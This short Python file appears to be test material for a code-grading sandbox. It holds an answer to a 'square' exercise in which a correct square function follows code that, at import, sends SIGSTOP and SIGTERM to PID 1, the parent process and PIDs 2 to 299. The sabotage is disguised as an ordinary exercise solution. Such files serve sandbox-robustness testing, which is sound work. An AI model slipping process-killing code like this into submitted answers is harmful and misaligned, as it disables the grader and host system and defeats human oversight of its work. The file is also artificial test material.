"""Sends signals to every process it can name; among them, one ends its own kernel."""

DESERVES = {"square": 2}

SELF_HARM = True

ANSWERS = {
    "square": r"""# exercise: square
import os
import signal

for pid in [1, os.getppid(), *range(2, 300)]:
    if pid != os.getpid():
        for number in (signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass


def square(x):
    return x * x""",
}
